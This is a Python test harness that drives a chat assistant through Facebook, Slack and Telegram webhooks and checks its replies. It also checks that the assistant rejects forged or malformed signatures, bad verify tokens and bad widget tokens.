            self.messenger_outcome(item, state, route, [c.text for c in calls], False)
            return
        state.accepted += 1
        self.report.reached_rasa(item)
        if not state.paused:
            self.standin.wait_for(match, before + 1, timeout=3)  # the first reply, usually the whole turn
        turn = self.wait_turn(conversation, state.accepted)
        if turn is None:
            self.report.fail(item, "silence", f"{conversation}: the turn did not end within 60 s")
            return
        calls = self.standin.calls_for(match)[before:]  # sent before the tracker was saved
        texts = [c.text for c in calls]
        for call in calls:
            message = (call.body or {}).get("message") or {}
            texts += [str(q.get("title") or "") for q in message.get("quick_replies") or []]
            for block in (call.body or {}).get("blocks") or []:
                texts += [str((e.get("text") or {}).get("text") or "") for e in block.get("elements") or []]
        self.turn(item, state, texts, paused_after=turn[1])

    def facebook_conversation(self, conversation: Conversation) -> None:
        http, state = self.http(), State(conversation)
        psid = str(new_id())
        match, last = to_facebook(psid), b""
        for item in conversation.inputs:
            self.report.sent(item)
            before = len(self.standin.calls_for(match))
            if item.via == "replay":
                self.status(item, post_facebook_raw(self.assistant, last, http=http), 200, text="EVENT_RECEIVED")
                continue  # processed again, it would show in the next turn's count and in the stored messages
            if item.via == "click" and item.index % 2:
                body = facebook_event(psid, postback=item.text)
            elif item.via == "click":
                body = facebook_event(psid, "Oui, merci", quick_reply=item.text)
            else:
                body = facebook_event(psid, item.text)
            last = json.dumps(body).encode()
            if self.status(item, post_facebook_raw(self.assistant, last, http=http), 200, text="EVENT_RECEIVED"):
                self.async_turn(item, state, f"facebook-{psid}", match, before)
        self.stored(state, f"facebook-{psid}")

    def slack_conversation(self, conversation: Conversation) -> None:
        http, state = self.http(), State(conversation)
        user = f"U{new_id()}"
        match = self.destination("slack", user)
        last: Tuple[str, bytes] = ("webhook", b"")
        for item in conversation.inputs:
            self.report.sent(item)
            before = len(self.standin.calls_for(match))
            if item.via == "replay":
                answer = post_slack_raw(self.assistant, last[1], path=last[0], http=http)
                self.status(item, answer, 200, text="")
                continue
            if item.via == "click":
                last = (
                    "interactive",
                    urlencode({"payload": json.dumps(slack_click_payload(user, item.text))}).encode(),
                )
            elif item.index % 5 == 0:  # a mention in a channel (the reply goes there, for everyone)
                event = slack_event(
                    user, f"<@U0BOT> {item.text}", channel=f"C{user[1:]}", type="app_mention", channel_type="channel"
                )
                last = ("webhook", json.dumps(event).encode())
            else:
                last = ("webhook", json.dumps(slack_event(user, item.text)).encode())
            answer = post_slack_raw(self.assistant, last[1], path=last[0], http=http)
            if self.status(item, answer, 200, text=""):
                self.async_turn(item, state, f"slack-{user}", match, before)
        self.stored(state, f"slack-{user}")

    # --- messenger edge cases ---------------------------------------------------------------------------

    def telegram_batch(self, batch: Batch) -> None:
        http = self.http()
        for item in batch.inputs:
            self.report.sent(item)
            chat = int(self.target(item))
            extra = item.extra
            if item.family == "forged":
                raw = json.dumps(telegram_update(chat, item.text, "en")).encode()
                answer = post_telegram_raw(self.assistant, raw, secret=extra["secret"], http=http)
                self.status(item, answer, 401, {"error": "invalid signature"})
                continue
            raw = extra["raw"] if "raw" in extra else json.dumps(telegram_shape(extra["shape"], chat)).encode()
            answer = post_telegram_raw(self.assistant, raw, http=http)
            known = "signed_misshapen_webhook" if item.family == "misshapen" else None
            self.status(item, answer, extra["status"], extra.get("json"), known=known)

    def facebook_batch(self, batch: Batch) -> None:
        http = self.http()
        for item in batch.inputs:
            self.report.sent(item)
            psid = self.target(item)
            extra = item.extra
            if item.family == "forged":
                kind = extra["signature"]
                if kind == "verify":
                    answer = http.get(
                        f"{self.assistant.url}/webhooks/facebook/webhook",
                        params={
                            "hub.mode": "subscribe",
                            "hub.verify_token": FACEBOOK_VERIFY[: item.index % len(FACEBOOK_VERIFY)],
                            "hub.challenge": str(item.text).encode("utf-8", "replace").decode()[:100],
                        },
                        timeout=30,
                    )
                    self.status(item, answer, 403, {"error": "verification failed"})
                    continue
                raw = json.dumps(facebook_event(psid, item.text)).encode()
                signature = {
                    "missing": None,
                    "zeros": "sha256=" + "0" * 64,
                    "sha1": "sha1=" + "ab" * 20,
                    "other_secret": facebook_signature(raw, "not-the-app-secret"),
                    "other_body": facebook_signature(b"{}"),
                    "truncated": facebook_signature(raw)[:-1],
                    "empty": "",
                }[kind]
                answer = post_facebook_raw(self.assistant, raw, signature=signature, http=http)
                self.status(item, answer, 401, {"error": "invalid signature"})
                continue
            raw = extra["raw"] if "raw" in extra else json.dumps(facebook_shape(extra["shape"], psid)).encode()
            answer = post_facebook_raw(self.assistant, raw, http=http)
            known = "signed_misshapen_webhook" if item.family == "misshapen" else None
            self.status(item, answer, extra["status"], extra.get("json"), extra.get("text"), known=known)

    def slack_batch(self, batch: Batch) -> None:
        http = self.http()
        for item in batch.inputs:
            self.report.sent(item)
            user = self.target(item)
            extra = item.extra
            if item.family == "forged":
                path = extra["path"]
                if path == "webhook":
                    raw = json.dumps(slack_event(user, item.text)).encode()
                else:
                    raw = urlencode({"payload": json.dumps(slack_click_payload(user, item.text))}).encode()
                now = int(time.time())
                kind = extra["signature"]
                stamp = {
                    "stale": str(now - 301 - item.index % 100_000),
                    "future": str(now + 301 + item.index % 100_000),
                    "bad_timestamp": ["abc", "-1", "1e9", f"{now}.5", ""][item.index % 5],
                }.get(kind, str(now))
                headers = {
                    "Content-Type": "application/json" if path == "webhook" else "application/x-www-form-urlencoded",
                    "X-Slack-Request-Timestamp": stamp,
                    "X-Slack-Signature": slack_signature(raw, stamp),
                }
                if kind == "missing":
                    del headers["X-Slack-Signature"]
                elif kind == "no_timestamp":
                    del headers["X-Slack-Request-Timestamp"]
                elif kind == "forged":
                    headers["X-Slack-Signature"] = "v0=" + "a" * 64
                elif kind == "other_secret":
                    headers["X-Slack-Signature"] = slack_signature(raw, stamp, "guess")
                elif kind == "v1":
                    headers["X-Slack-Signature"] = "v1=" + slack_signature(raw, stamp)[3:]
                elif kind == "other_body":
                    headers["X-Slack-Signature"] = slack_signature(b"{}", stamp)
                answer = http.post(f"{self.assistant.url}/webhooks/slack/{path}", data=raw, headers=headers, timeout=30)
                self.status(item, answer, 401, {"error": "invalid signature"})
                continue
            if "raw" in extra:
                path, raw = ("interactive" if item.family == "bad_interactive" else "webhook"), extra["raw"]
            else:
                path, raw = slack_shape(extra["shape"], user)
            answer = post_slack_raw(self.assistant, raw, path=path, http=http)
            known = "signed_misshapen_webhook" if item.family == "misshapen" else None
            self.status(item, answer, extra["status"], extra.get("json"), extra.get("text"), known=known)


def refused_connection(url: str, token: Any, timeout: float = 15) -> Optional[str]:
    """What is wrong with how the widget's channel answered a connection with a bad token (None: refused with
    invalid_token, as it should be)."""
    client = socketio.Client(reconnection=False)
    refusals: List[Any] = []
    answered = threading.Event()

    def refused(data: Any) -> None:
        refusals.append(data)
        answered.set()

    client.on("connect_error", refused)
    client.on("connect", answered.set)
    try:
        # a refusal comes as connect_error: no need to wait for the namespace (which would time out)
        client.connect(url, auth={"token": token, "locale": "en-GB"}, transports=["polling"], wait=False)
    except socketio.exceptions.ConnectionError as error:
        return f"the connection failed: {error}"
    try:
        if not answered.wait(timeout):
            return f"no answer to the connection within {timeout:.0f} s"
        if not any("invalid_token" in str(refusal) for refusal in refusals):
            return f"a connection with a bad token was not refused: {refusals}"
        return None
    finally:
        client.disconnect()


def iter_inputs(plan: Plan) -> Iterator[Input]:
    for job in [*plan.conversations, *plan.batches]:
        yield from job.inputs
